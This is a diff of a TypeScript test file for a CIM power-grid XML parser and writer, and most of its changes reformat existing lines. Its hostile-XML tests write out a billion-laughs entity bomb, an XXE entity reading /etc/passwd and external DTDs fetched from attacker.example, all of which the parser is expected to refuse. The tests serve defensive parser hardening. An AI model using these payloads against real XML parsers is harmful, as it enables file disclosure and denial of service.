@@ -3,8 +3,23 @@ import { dirname, resolve } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { describe, expect, it } from 'vitest';
 import {
-  CIM_FATAL_CODES, CIM_ISSUE_CODES, CimParseError, CimWriter, classCounts, derivedMrid, extractAssets, identifiedObjectProblems, mergeDocuments,
-  mridToUlid, normaliseId, parseCimXml, profileMarkdown, ulidToMrid, unitLinks, type CimAssetInput, type CimModel,
+  CIM_FATAL_CODES,
+  CIM_ISSUE_CODES,
+  CimParseError,
+  CimWriter,
+  classCounts,
+  derivedMrid,
+  extractAssets,
+  identifiedObjectProblems,
+  mergeDocuments,
+  mridToUlid,
+  normaliseId,
+  parseCimXml,
+  profileMarkdown,
+  ulidToMrid,
+  unitLinks,
+  type CimAssetInput,
+  type CimModel,
 } from '../cim/index';
 import { RULES } from '../src/rules';
 
@@ -29,7 +44,11 @@ function regexCounts(files: string[]): Record<string, number> {
   for (const f of files) {
     const text = raw(f).toString('utf8');
     for (const m of text.matchAll(/<cim:([A-Za-z0-9]+)\s+rdf:(ID|about)="([^"]+)"/g)) {
-      const key = m[3].replace(/^#/, '').replace(/^urn:uuid:/i, '').replace(/^_/, '').toLowerCase();
+      const key = m[3]
+        .replace(/^#/, '')
+        .replace(/^urn:uuid:/i, '')
+        .replace(/^_/, '')
+        .toLowerCase();
       const c = m[1] === 'PhotovoltaicUnit' ? 'PhotoVoltaicUnit' : m[1];
       const have = cls.get(key);
       if (!have || (m[2] === 'ID' && !have.defined)) cls.set(key, { c, defined: m[2] === 'ID' || !!have?.defined });
@@ -80,14 +99,21 @@ describe('profile', () => {
 
 describe('golden files from other tools', () => {
   it('covers every file in the reference folder', () => {
-    expect(readdirSync(REF).filter((f) => f.endsWith('.xml')).sort()).toEqual([TEXEL, EQ, SSH, CIMHUB, NEPLAN].sort());
+    expect(
+      readdirSync(REF)
+        .filter((f) => f.endsWith('.xml'))
+        .sort(),
+    ).toEqual([TEXEL, EQ, SSH, CIMHUB, NEPLAN].sort());
   });
 
   it('CGMES 3 EQ + SSH (BOM, rdf:ID / rdf:about="#_", eu: namespace): merged, counts per class, SSH adds to EQ objects', () => {
     const m = model(EQ, SSH);
     expect(classCounts(m)).toEqual(regexCounts([EQ, SSH]));
     expect(classCounts(m)).toEqual(regexCounts([EQ]));
-    expect(m.headers.map((h) => h.profiles[0])).toEqual(['http://iec.ch/TC57/ns/CIM/CoreEquipment-EU/3.0', 'http://iec.ch/TC57/ns/CIM/SteadyStateHypothesis-EU/3.0']);
+    expect(m.headers.map((h) => h.profiles[0])).toEqual([
+      'http://iec.ch/TC57/ns/CIM/CoreEquipment-EU/3.0',
+      'http://iec.ch/TC57/ns/CIM/SteadyStateHypothesis-EU/3.0',
+    ]);
     // A terminal defined in EQ carries the SSH `connected` flag after the merge.
     const t = m.objects.get('02a244ca-8bcb-4e25-8613-e948b8ba1f22')!;
     expect(t.className).toBe('Terminal');
@@ -104,7 +130,11 @@ describe('golden files from other tools', () => {
     const loads = extractAssets(m);
     expect([loads.length, regexCounts([EQ]).ConformLoad]).toEqual([3, 3]);
     // Each resolved to objects of the model, not merely to some text.
-    for (const l of loads) expect([m.objects.get(l.network.connectivityNode!)?.className, m.objects.get(l.network.substation!)?.className]).toEqual(['ConnectivityNode', 'Substation']);
+    for (const l of loads)
+      expect([m.objects.get(l.network.connectivityNode!)?.className, m.objects.get(l.network.substation!)?.className]).toEqual([
+        'ConnectivityNode',
+        'Substation',
+      ]);
   });
 
   it('NEPLAN CIM16 (2012 namespace, neplan: extension, non-UUID IDs, Names): counts, names, unknown namespace reported', () => {
@@ -112,7 +142,9 @@ describe('golden files from other tools', () => {
     expect(classCounts(m)).toEqual(regexCounts([NEPLAN]));
     const names = [...m.objects.values()].filter((o) => o.className === 'Name');
     // Each of the 65 Names names one object, and that object is in the model.
-    expect(names.map((n) => (n.references['cim:Name.IdentifiedObject'] ?? []).filter((r) => m.objects.has(r.key)).length)).toEqual(Array(65).fill(1));
+    expect(names.map((n) => (n.references['cim:Name.IdentifiedObject'] ?? []).filter((r) => m.objects.has(r.key)).length)).toEqual(
+      Array(65).fill(1),
+    );
     const ec = extractAssets(m);
     expect(ec).toHaveLength(regexCounts([NEPLAN]).EnergyConsumer);
     // Non-UUID identifiers keep their original form.
@@ -126,7 +158,9 @@ describe('golden files from other tools', () => {
     const counts = classCounts(m);
     expect(counts).toEqual(regexCounts([CIMHUB]));
     expect(counts.PhotoVoltaicUnit).toBe(2);
-    expect([...m.objects.values()].filter((o) => o.className === 'PhotoVoltaicUnit').every((o) => o.writtenClassName === 'PhotovoltaicUnit')).toBe(true);
+    expect(
+      [...m.objects.values()].filter((o) => o.className === 'PhotoVoltaicUnit').every((o) => o.writtenClassName === 'PhotovoltaicUnit'),
+    ).toBe(true);
     // Every connection finds its unit although the file writes the link from the connection.
     const links = unitLinks(m);
     expect(links.size).toBe(counts.PowerElectronicsConnection);
@@ -136,11 +170,15 @@ describe('golden files from other tools', () => {
     expect(pec.every((e) => e.mrid === e.mrid.toUpperCase())).toBe(true);
     const house = pec.find((e) => e.input.name === 'house')!;
     expect(house.input.ratedCapacityKw).toBeGreaterThan(0);
-    expect(extractAssets(m, { unit: 'kW' }).find((e) => e.input.name === 'house')!.input.ratedCapacityKw).toBe((house.input.ratedCapacityKw as number) * 1000);
+    expect(extractAssets(m, { unit: 'kW' }).find((e) => e.input.name === 'house')!.input.ratedCapacityKw).toBe(
+      (house.input.ratedCapacityKw as number) * 1000,
+    );
     // CIMHub positions are OpenDSS bus coordinates, not WGS84: not taken as latitude/longitude.
     expect(house.input.location).toBeUndefined();
     expect(house.problems).toContainEqual(expect.stringContaining('OpenDSSLocalBusCoordinates'));
-    expect(house.network).toEqual(expect.objectContaining({ connectivityNode: expect.any(String), feeder: expect.any(String), substation: expect.any(String) }));
+    expect(house.network).toEqual(
+      expect.objectContaining({ connectivityNode: expect.any(String), feeder: expect.any(String), substation: expect.any(String) }),
+    );
     expect(codes(m, 'CIM-REFERENCE-DANGLING')).toEqual([]);
     // Classes the register does not read are kept and reported with counts.
     expect(m.objects.size).toBe(Object.values(counts).reduce((a, b) => a + b, 0));
@@ -166,9 +204,12 @@ describe('golden files from other tools', () => {
 });
 
 describe('hostile and malformed XML', () => {
-  const rdf = (body: string) => `<?xml version="1.0"?>\n<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cim="http://iec.ch/TC57/CIM100#">\n${body}\n</rdf:RDF>`;
+  const rdf = (body: string) =>
+    `<?xml version="1.0"?>\n<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cim="http://iec.ch/TC57/CIM100#">\n${body}\n</rdf:RDF>`;
   const refused = (input: string | Uint8Array, code: string, limits = {}) => {
-    try { parseCimXml(input, 'x.xml', limits); } catch (e) {
+    try {
+      parseCimXml(input, 'x.xml', limits);
+    } catch (e) {
       expect(e).toBeInstanceOf(CimParseError);
       expect((e as CimParseError).code).toBe(code);
       return e as CimParseError;
@@ -178,22 +219,31 @@ describe('hostile and malformed XML', () => {
 
   it('billion laughs: refused before any expansion', () => {
     // 10^levels expansions if anything expanded them; the refusal is the same at 10^9 and 10^30.
-    const lol = (levels: number) => `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n${Array.from({ length: levels }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('\n')}\n]>\n<lolz>&lol${levels};</lolz>`;
+    const lol = (levels: number) =>
+      `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n${Array.from({ length: levels }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('\n')}\n]>\n<lolz>&lol${levels};</lolz>`;
     for (const levels of [9, 30]) {
       const e = refused(lol(levels), 'CIM-XML-DOCTYPE');
       // Refused at the DOCTYPE itself (line 2), before the root element that references the entities.
-      expect([e.message, e.location]).toEqual(['x.xml declares entities (DOCTYPE with ENTITY); entity expansion is refused.', { file: 'x.xml', line: 2, col: 1 }]);
+      expect([e.message, e.location]).toEqual([
+        'x.xml declares entities (DOCTYPE with ENTITY); entity expansion is refused.',
+        { file: 'x.xml', line: 2, col: 1 },
+      ]);
     }
   });
 
   it('external entities (XXE) and parameter entities: refused, nothing fetched', () => {
-    refused(`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">&xxe;</rdf:RDF>`, 'CIM-XML-DOCTYPE');
+    refused(
+      `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">&xxe;</rdf:RDF>`,
+      'CIM-XML-DOCTYPE',
+    );
     refused(`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><r/>`, 'CIM-XML-DOCTYPE');
     refused(`<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><r/>`, 'CIM-XML-DOCTYPE');
   });
 
   it('undeclared entities stay text; only the five predefined ones and character references are decoded', () => {
-    const d = parseCimXml(rdf(`<cim:Asset rdf:ID="_a"><cim:IdentifiedObject.name>A &amp; B &#x263A; &foo;</cim:IdentifiedObject.name></cim:Asset>`));
+    const d = parseCimXml(
+      rdf(`<cim:Asset rdf:ID="_a"><cim:IdentifiedObject.name>A &amp; B &#x263A; &foo;</cim:IdentifiedObject.name></cim:Asset>`),
+    );
     expect(d.objects[0].properties['cim:IdentifiedObject.name']).toEqual(['A & B ☺ &foo;']);
   });
 
@@ -208,7 +258,10 @@ describe('hostile and malformed XML', () => {
   });
 
   it('malformed XML: line and column of the fault', () => {
-    const e = refused(rdf('<cim:Asset rdf:ID="_a">\n  <cim:IdentifiedObject.name>x</cim:IdentifiedObject.nam>\n</cim:Asset>'), 'CIM-XML-MALFORMED');
+    const e = refused(
+      rdf('<cim:Asset rdf:ID="_a">\n  <cim:IdentifiedObject.name>x</cim:IdentifiedObject.nam>\n</cim:Asset>'),
+      'CIM-XML-MALFORMED',
+    );
     expect(e.location).toMatchObject({ file: 'x.xml', line: 4 });
     expect(e.location!.col).toBeGreaterThan(1);
     refused('<rdf:RDF', 'CIM-XML-MALFORMED');
@@ -222,7 +275,8 @@ describe('hostile and malformed XML', () => {
   });
 
   it('prefixes resolve from xmlns, never from their text', () => {
-    const d = parseCimXml(`<x:RDF xmlns:x="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cim="urn:not-cim" xmlns:q="http://iec.ch/TC57/CIM100#">
+    const d =
+      parseCimXml(`<x:RDF xmlns:x="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cim="urn:not-cim" xmlns:q="http://iec.ch/TC57/CIM100#">
       <q:BatteryUnit x:about="urn:uuid:ABC"><q:IdentifiedObject.name>b</q:IdentifiedObject.name></q:BatteryUnit>
       <cim:BatteryUnit x:ID="_def"/></x:RDF>`);
     expect(d.objects.map((o) => o.classKey)).toEqual(['cim:BatteryUnit', 'urn:not-cimBatteryUnit']);
@@ -232,25 +286,52 @@ describe('hostile and malformed XML', () => {
 
 describe('writer', () => {
   const base: CimAssetInput = {
-    id: '01JD8X6N2Q7ZB4Y3W5V6T7S8R9', name: 'N'.repeat(200), category: 'SOLAR_PV', ratedCapacityKw: 4.25, connectionStatus: 'CONNECTED', exportMpan: '1312345678907',
-    organisationId: '01JD8X6N2Q7ZB4Y3W5V6T7S8R8', fspId: '01JD8X6N2Q7ZB4Y3W5V6T7S8R8', aliases: [{ scheme: 'mcs', value: 'MCS-1 <&>' }],
+    id: '01JD8X6N2Q7ZB4Y3W5V6T7S8R9',
+    name: 'N'.repeat(200),
+    category: 'SOLAR_PV',
+    ratedCapacityKw: 4.25,
+    connectionStatus: 'CONNECTED',
+    exportMpan: '1312345678907',
+    organisationId: '01JD8X6N2Q7ZB4Y3W5V6T7S8R8',
+    fspId: '01JD8X6N2Q7ZB4Y3W5V6T7S8R8',
+    aliases: [{ scheme: 'mcs', value: 'MCS-1 <&>' }],
   };
 
   it('writes well-formed RDF/XML whose identified objects pass the SHACL identity rules', () => {
     const w = new CimWriter();
-    const doc = w.header({ created: new Date('2026-01-01T00:00:00Z'), modelingAuthoritySet: 'http://hub.test' })
-      + w.organisation({ id: base.organisationId, name: 'Org "&" <Ltd>' }) + w.organisation({ id: base.organisationId, name: 'again' }) + w.asset(base) + w.footer();
+    const doc =
+      w.header({ created: new Date('2026-01-01T00:00:00Z'), modelingAuthoritySet: 'http://hub.test' }) +
+      w.organisation({ id: base.organisationId, name: 'Org "&" <Ltd>' }) +
+      w.organisation({ id: base.organisationId, name: 'again' }) +
+      w.asset(base) +
+      w.footer();
     const d = parseCimXml(doc);
     expect(d.issues).toEqual([]);
     expect(d.objects.filter((o) => o.className === 'Organisation')).toHaveLength(1);
     for (const o of d.objects) {
       if (['Name', 'NameType', 'PositionPoint'].includes(o.className)) continue;
       const mrid = o.properties['cim:IdentifiedObject.mRID']?.[0];
-      expect(identifiedObjectProblems({ mrid, name: o.properties['cim:IdentifiedObject.name']?.[0], description: o.properties['cim:IdentifiedObject.description']?.[0] }), o.className).toEqual([]);
+      expect(
+        identifiedObjectProblems({
+          mrid,
+          name: o.properties['cim:IdentifiedObject.name']?.[0],
+          description: o.properties['cim:IdentifiedObject.description']?.[0],
+        }),
+        o.className,
+      ).toEqual([]);
       expect(o.ids[0]).toBe(`_${mrid}`);
     }
     const [e] = extractAssets(mergeDocuments([d]));
-    expect(e.input).toMatchObject({ name: base.name, category: 'SOLAR_PV', ratedCapacityKw: 4.25, exportMpan: base.exportMpan, aliases: [{ scheme: 'mcs', value: 'MCS-1 <&>' }, { scheme: 'cim_mrid', value: ulidToMrid(base.id) }] });
+    expect(e.input).toMatchObject({
+      name: base.name,
+      category: 'SOLAR_PV',
+      ratedCapacityKw: 4.25,
+      exportMpan: base.exportMpan,
+      aliases: [
+        { scheme: 'mcs', value: 'MCS-1 <&>' },
+        { scheme: 'cim_mrid', value: ulidToMrid(base.id) },
+      ],
+    });
     expect(identifiedObjectProblems({ mrid: 'x', name: 'n'.repeat(129), description: 'd'.repeat(257) })).toHaveLength(3);
     expect(identifiedObjectProblems({})).toEqual(['mRID missing']);
   });
